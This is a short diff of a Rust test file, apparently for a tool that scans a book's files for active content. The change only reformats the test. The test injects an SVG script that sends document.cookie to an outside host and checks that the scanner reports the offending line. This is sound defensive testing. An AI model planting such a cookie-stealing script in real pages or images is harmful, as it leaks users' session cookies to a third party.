@@ -81,13 +81,16 @@ fn an_output_that_breaks_out_of_its_fence_fails() {
 fn an_svg_picture_with_script_fails_naming_its_line() {
     proven(|| {
         let book = Book::new();
-        let train = String::from_utf8(
-            book.files.borrow()[std::path::Path::new("src/train.svg")].clone(),
-        )
-        .unwrap();
+        let train =
+            String::from_utf8(book.files.borrow()[std::path::Path::new("src/train.svg")].clone())
+                .unwrap();
         book.write(
             "src/train.svg",
-            &train.replacen(">", ">\n<script>fetch('https://lwn.net/'+document.cookie)</script>", 1),
+            &train.replacen(
+                ">",
+                ">\n<script>fetch('https://lwn.net/'+document.cookie)</script>",
+                1,
+            ),
         );
         let problems = active_content(&book);
         assert_problem(&problems, "src/train.svg:2", "`<script>`");
